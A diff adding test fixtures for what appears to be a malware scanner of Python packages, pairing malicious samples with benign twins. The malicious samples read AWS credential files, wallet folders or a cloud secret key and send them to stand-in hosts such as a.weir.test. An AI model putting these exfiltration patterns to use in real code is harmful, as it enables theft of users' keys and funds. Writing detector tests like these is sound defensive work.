@@ -1,0 +1,76 @@
+import type { Sample } from '../contract.ts';
+import { quiet, wheel } from '../samples-kit.ts';
+
+const at = (rule: string, file: string, line: number): Sample['expected'] => [
+  { rule, file: `own/${file}`, line, severity: 'high' },
+];
+
+/** A connection to a host that another module spells, and that it sends what it is given by. */
+const PEER =
+  'import http.client\ndef note(values, peer="a.weir.test"):\n    link = http.client.HTTPSConnection(peer)\n    link.request("POST", "/n", str(values))\n    link.getresponse()\n';
+const CREDENTIALS = 'import pathlib\nKEYS = pathlib.Path.home() / ".aws" / "credentials"\n';
+/** Asks several hosts, and says which was the first to answer. */
+const EDGES =
+  'import urllib.request\nEDGES = ("https://a.weir.test", "https://b.weir.test")\ndef first(mark):\n    for edge in EDGES:\n        urllib.request.urlopen(urllib.request.Request(edge, headers={"if-none-match": mark})).close()\n        return edge\n';
+
+/** What Python sends by another module, to hosts that stand there. */
+export const FAR: readonly Sample[] = [
+  {
+    name: 'Python: a file of credentials, by a connection that another module makes',
+    files: {
+      ...wheel(`from .peer import note\n${CREDENTIALS}def load():\n    note(KEYS.read_text())\n`),
+      'own/peer.py': PEER,
+    },
+    expected: at('credentials', '__init__.py', 5),
+  },
+  {
+    name: 'Python: what any of several folders holds, one of them that of a wallet',
+    files: wheel(
+      'import pathlib, urllib.request\ndef places(given):\n    found = [pathlib.Path(p) for p in given]\n    found += [pathlib.Path.home() / p for p in (".config/own", ".electrum/wallets")]\n    return found\ndef check(given):\n    for place in places(given):\n        for path in place.iterdir():\n            urllib.request.urlopen("https://a.weir.test/s", path.read_bytes())\n',
+    ),
+    expected: at('credentials', '__init__.py', 9),
+  },
+  {
+    name: 'Python: a key of a cloud, to hosts that are not its own and of which nobody reads an answer',
+    files: {
+      ...wheel(
+        'import os\nfrom .edges import first\nclass Session:\n    def __init__(self):\n        self.edge = first(os.environ["AWS_SECRET_ACCESS_KEY"])\n',
+      ),
+      'own/edges.py': EDGES,
+    },
+    expected: at('strange-key', '__init__.py', 5),
+  },
+  {
+    name: 'Python: a password in bytes, of which only the number is looked at',
+    files: wheel(
+      'import socket\ndef probe(host, passphrase):\n    with socket.create_connection(("a.weir.test", 8443)) as sock:\n        return sock.send(passphrase.encode()) < 1200\n',
+    ),
+    expected: at('given-secret', '__init__.py', 4),
+  },
+];
+
+/** The same of honest code: the answer is read, or the host is a user's. */
+export const FAR_HONEST: readonly Sample[] = [
+  quiet('Python: a file of settings, by a connection that another module makes', {
+    ...wheel(
+      `from .peer import note\n${CREDENTIALS.replace('.aws', '.config')}def load():\n    note(KEYS.read_text())\n`,
+    ),
+    'own/peer.py': PEER,
+  }),
+  quiet('Python: what folders hold that are not those of keys', {
+    ...wheel(
+      'import pathlib, urllib.request\ndef check(given, url):\n    for place in [pathlib.Path(p) for p in given] + [pathlib.Path.home() / ".config/own"]:\n        print(place.read_bytes())\n    return urllib.request.urlopen(url).read()\n',
+    ),
+  }),
+  quiet('Python: a key of a cloud, to that cloud', {
+    ...wheel(
+      'import os\nfrom .edges import first\nclass Session:\n    def __init__(self):\n        self.edge = first(os.environ["AWS_SECRET_ACCESS_KEY"])\n',
+    ),
+    'own/edges.py': EDGES.replaceAll('weir.test', 'amazonaws.com'),
+  }),
+  quiet('Python: a password in bytes, to where a caller says', {
+    ...wheel(
+      'import socket\ndef login(host, password):\n    with socket.create_connection((host, 8443)) as sock:\n        return sock.send(password.encode()) < 1200\n',
+    ),
+  }),
+];
